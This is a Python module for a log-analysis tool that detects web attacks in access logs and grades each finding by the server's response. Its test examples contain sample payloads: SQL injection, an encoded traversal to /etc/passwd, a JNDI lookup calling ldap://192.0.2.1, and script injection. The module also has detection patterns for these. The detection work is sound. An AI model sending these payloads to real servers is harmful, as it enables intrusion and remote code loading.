"""Web attacks in access logs: one finding per source, kind of attack and hour, with what the server answered.

Path, query values, user agent and referrer of each request are judged by :mod:`web_patterns`; only distinct texts that
pass a cheap filter are looked at closely. What one would get wrong: an answer 200 alone is no success (most pages
ignore the parameter); an error 500, or a page of unusual size, says that the payload reached something.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from functools import lru_cache
from typing import cast

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from hodoscope.soc.detectors.conclusion import Conclusion
from hodoscope.soc.detectors.evidence import (
    Note,
    equal,
    host_entity,
    ip_entity,
    keep,
    sql_text,
    where_packed,
    where_window,
)
from hodoscope.soc.detectors.examples import spaced
from hodoscope.soc.detectors.interface import DetectorSpec, Example, Parameter
from hodoscope.soc.detectors.rows import EVENT_ID_BYTES, Mask, Rows, has_text
from hodoscope.soc.detectors.state import Plain, notes_from_plain, notes_to_plain
from hodoscope.soc.detectors.web_patterns import CATEGORY_TITLES, SUSPECT, Verdict, judge
from hodoscope.soc.detectors.window_tally import Key, Memory, WindowTally
from hodoscope.soc.finding import Severity

PARAMETERS: Mapping[str, Parameter] = {
    "window": Parameter(3600, "s", "own choice: one finding per source and kind an hour keeps the queue readable"),
    "large_body": Parameter(100_000, "B", "own choice: above the usual page, below the usual download"),
    "max_keys": Parameter(50_000, "keys", "bounds memory; about 2 KB per (source, kind) of one hour"),
}
PATH, QUERY, AGENT, REFERRER = (
    "http_request_url_path",
    "http_request_url_query_string",
    "http_request_user_agent",
    "http_request_referrer",
)
COLUMNS = (
    PATH,
    QUERY,
    AGENT,
    REFERRER,
    "src_endpoint_ip",
    "http_response_code",
    "http_response_body_length",
    "http_request_http_method",
    "http_request_url_hostname",
    "class_uid",
)
KEPT_IDS = 200  # requests named by id in the WHERE; adds up to 3 KB to a record
_HEADER_SUSPECT = r"(?i)\$\{|%24%7b|\(\)\s*\{"
_TECHNIQUES = {
    "sqli": ("T1190",),
    "xss": ("T1189",),
    "traversal": ("T1190", "T1083"),
    "cmdi": ("T1190", "T1059"),
    "inclusion": ("T1190",),
    "lookup": ("T1190", "T1059"),
}


@lru_cache(maxsize=20_000)
def judge_query(query: str) -> tuple[Verdict, ...]:
    """Verdicts over every value of a query string, the heaviest per category."""
    best: dict[str, Verdict] = {}
    for part in query.split("&"):
        name, _, value = part.partition("=")
        for verdict in judge(value or name):
            if verdict.category not in best or best[verdict.category].weight < verdict.weight:
                best[verdict.category] = verdict
    return tuple(best.values())


def judge_path(path: str) -> tuple[Verdict, ...]:
    """Verdicts over a path; a query that some servers leave in it is judged as one."""
    plain, _, query = path.partition("?")
    return judge(plain) + (judge_query(query) if query else ())


def judge_header(text: str) -> tuple[Verdict, ...]:
    """Lookups and shell tricks only: a browser's own user agent is full of brackets and semicolons."""
    return tuple(v for v in judge(text) if v.category == "lookup" or (v.category == "cmdi" and "() {" in text))


_JUDGES = (
    (PATH, SUSPECT, judge_path),
    (QUERY, SUSPECT, judge_query),
    (AGENT, _HEADER_SUSPECT, judge_header),
    (REFERRER, _HEADER_SUSPECT, judge_header),
)


@dataclass(slots=True)
class Attack:
    """Requests of one source and kind in one window."""

    count: int = 0
    weight: int = 0
    first_us: int = 0
    last_us: int = 0
    words: dict[str, int] = field(default_factory=dict)
    hosts: dict[str, int] = field(default_factory=dict)
    answers: dict[str, int] = field(default_factory=dict)
    telling: int = 0
    notes: list[Note] = field(default_factory=list)
    ids: bytearray = field(default_factory=bytearray)  # event ids, 16 bytes each, of the first KEPT_IDS requests


class WebAttacks(WindowTally[Attack]):
    """The detector; the module says what it finds."""

    def __init__(self, parameters: Mapping[str, Parameter] = PARAMETERS) -> None:
        self.window_us = int(parameters["window"].value * 1e6)
        self.max_keys = int(parameters["max_keys"].value)
        self.large_body = int(parameters["large_body"].value)
        self.spec = DetectorSpec(
            name="web_attacks",
            version="1",
            title="Attack payloads in web requests",
            attack=("T1190",),
            columns=COLUMNS,
            where=f"src_endpoint_ip != '' AND ({PATH} != '' OR {QUERY} != '')",
            lateness_seconds=300,
            parameters=parameters,
            how_to_check="Is the source an agreed scanner or penetration test? Look at the requests answered "
            "200 or 500: does "
            "the size differ from the same page without the payload? Then look at the server's error log and "
            "at what its web "
            "process started in those minutes.",
        )

    def wanted(self, events: pa.Table) -> Mask:
        found = np.zeros(events.num_rows, dtype=np.bool_)
        for name, suspect, _ in _JUDGES:
            if name in events.column_names:
                found |= _matching(events.column(name), suspect)
        return found & has_text(events, "src_endpoint_ip") & (has_text(events, PATH) | has_text(events, QUERY))

    def collect(self, rows: Rows, records: dict[Key, Attack]) -> None:
        judged = []
        for name, _, judge_text in _JUDGES:
            codes, labels = rows.codes(name)
            judged.append((name, codes.tolist(), [judge_text(label) if label else () for label in labels]))
        sources, hosts = rows.text("src_endpoint_ip"), rows.text("http_request_url_hostname")
        codes_of, bodies = rows.ints("http_response_code"), rows.ints("http_response_body_length")
        for row, source in enumerate(sources):
            seen: set[str] = set()
            for name, codes, verdicts in judged:
                for verdict in verdicts[codes[row]]:
                    record = self.record(records, (source, verdict.category))
                    if record is None:
                        continue
                    self._note(record, verdict, rows, row, name)
                    if verdict.category not in seen:
                        seen.add(verdict.category)
                        if len(record.ids) < KEPT_IDS * EVENT_ID_BYTES:
                            record.ids += rows.event_ids[row]
                        self._count(record, rows.times_us[row], hosts[row], codes_of[row], bodies[row])

    def _count(self, record: Attack, time_us: int, host: str, code: int, body: int) -> None:
        record.count += 1
        record.first_us = record.first_us or time_us
        record.last_us = time_us
        record.answers[str(code)] = record.answers.get(str(code), 0) + 1
        record.telling += code >= 500 or (200 <= code < 300 and body >= self.large_body)
        if host and (host in record.hosts or len(record.hosts) < 20):
            record.hosts[host] = record.hosts.get(host, 0) + 1

    def _note(self, record: Attack, verdict: Verdict, rows: Rows, row: int, name: str) -> None:
        record.weight = max(record.weight, verdict.weight)
        for words in verdict.words:
            record.words[words] = record.words.get(words, 0) + 1
        value = rows.table.column(name)[row].as_py()
        keep(record.notes, rows.event_ids[row], rows.times_us[row], {name: value}, 20)

    def judge(self, records: dict[Key, Attack], memory: Memory, window_us: int) -> Iterator[Conclusion]:
        for (source, category), record in records.items():
            yield _conclusion(source, category, record, window_us)

    def new_record(self) -> Attack:
        return Attack()

    def to_plain(self, record: Attack) -> Plain:
        return [
            record.count,
            record.weight,
            record.first_us,
            record.last_us,
            dict(record.words),
            dict(record.hosts),
            dict(record.answers),
            record.telling,
            notes_to_plain(record.notes),
            record.ids.hex(),
        ]

    def from_plain(self, plain: Plain) -> Attack:
        count, weight, first, last, words, hosts, answers, telling, notes, *ids = cast("list[int]", plain)
        tables = [cast("dict[str, int]", table) for table in (words, hosts, answers)]
        kept = notes_from_plain(cast("Plain", notes))
        known = bytearray.fromhex(cast("str", ids[0]) if ids else "")  # snapshots from before ids were kept
        return Attack(count, weight, first, last, tables[0], tables[1], tables[2], telling, kept, known)


def _matching(column: pa.ChunkedArray, regex: str) -> Mask:
    """Rows whose text matches, tested once per distinct value of a dictionary."""
    if not pa.types.is_dictionary(column.type):
        return np.asarray(pc.fill_null(pc.match_substring_regex(column, regex), fill_value=False), dtype=np.bool_)
    column = column.unify_dictionaries().combine_chunks()
    hits = np.asarray(
        pc.fill_null(pc.match_substring_regex(column.dictionary, regex), fill_value=False), dtype=np.bool_
    )
    hits = np.concatenate([hits, np.zeros(1, dtype=np.bool_)])  # the place of index -1: null
    return cast("Mask", hits[column.indices.fill_null(-1).to_numpy()])


def _counted(source: str, record: Attack) -> str:
    """The requests by their ids; beyond KEPT_IDS the source's suspect requests, see NOT_REPRODUCIBLE."""
    if record.count * EVENT_ID_BYTES == len(record.ids):
        return where_packed(record.ids)
    suspects = " OR ".join(f"match({name}, {sql_text(suspect)})" for name, suspect, _ in _JUDGES)
    source_is = equal("src_endpoint_ip", source)
    return where_window(record.first_us, record.last_us, source_is, f"({PATH} != '' OR {QUERY} != '')", f"({suspects})")


def _conclusion(source: str, category: str, record: Attack, window_us: int) -> Conclusion:
    title = CATEGORY_TITLES[category]
    refused = sum(n for code, n in record.answers.items() if code[:1] in "34")
    severity = Severity.HIGH if record.telling else Severity.LOW if refused == record.count else Severity.MEDIUM
    answers = ", ".join(f"{n} × {code if code != '0' else 'unknown'}" for code, n in sorted(record.answers.items()))
    words = sorted(record.words, key=lambda text: (-record.words[text], text))
    telling = (
        f" {record.telling} of the answers were server errors or unusually large: the payload may have worked."
        if record.telling
        else ""
    )
    return Conclusion(
        entity=ip_entity(source),
        anchor=f"{window_us}|{category}",
        severity=severity,
        confidence=min(0.95, 0.5 + 0.05 * record.weight),
        first_us=record.first_us,
        last_us=record.last_us,
        title=f"{title[0].upper()}{title[1:]} attempts from {source}",
        attack=_TECHNIQUES[category],
        explanation=f"{source} sent {record.count} requests that hold {title}: {'; '.join(words[:4])}. "
        f"The server answered {answers}.{telling}",
        reasons=[(f"{text} in {record.words[text]} requests", float(record.words[text])) for text in words[:6]],
        notes=record.notes,
        event_count=record.count,
        where=_counted(source, record),
        entities=[host_entity(host) for host in sorted(record.hosts)],
        features={
            "requests": record.count,
            "weight": record.weight,
            "telling_answers": record.telling,
            "category": category,
        },
    )


def _get(
    path: str, query: str = "", code: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x86_64)", body: int = 5000
) -> dict[str, object]:
    return {
        "class_uid": 4002,
        "src_endpoint_ip": "203.0.113.9",
        PATH: path,
        QUERY: query,
        AGENT: agent,
        "http_response_code": code,
        "http_response_body_length": body,
        "http_request_http_method": "GET",
    }


EXAMPLES: tuple[Example, ...] = (
    Example(
        "a condition that is always true, encoded",
        True,
        spaced("2024-03-04T10:00:00", 5, [_get("/item", "id=7%27%20OR%20%271%27%3D%271")]),
    ),
    Example(
        "a doubly encoded climb to the password file",
        True,
        spaced("2024-03-04T10:00:00", 5, [_get("/download", "f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", 404)]),
    ),
    Example(
        "a nested lookup in the user agent",
        True,
        spaced("2024-03-04T10:00:00", 5, [_get("/", agent="${${lower:j}ndi:ldap://192.0.2.1/a}")]),
    ),
    Example(
        "a script in a search box",
        True,
        spaced("2024-03-04T10:00:00", 5, [_get("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E")]),
    ),
    Example(
        "names with apostrophes, and prose that sounds like SQL",
        False,
        spaced(
            "2024-03-04T10:00:00",
            5,
            [
                _get("/search", "q=O%27Brien+or+O%27Neill"),
                _get("/search", "q=select+a+room+from+the+list"),
                _get("/docs/../img/logo.png"),
                _get("/search", "q=union+station+and+order+by+phone"),
            ],
        ),
    ),
)
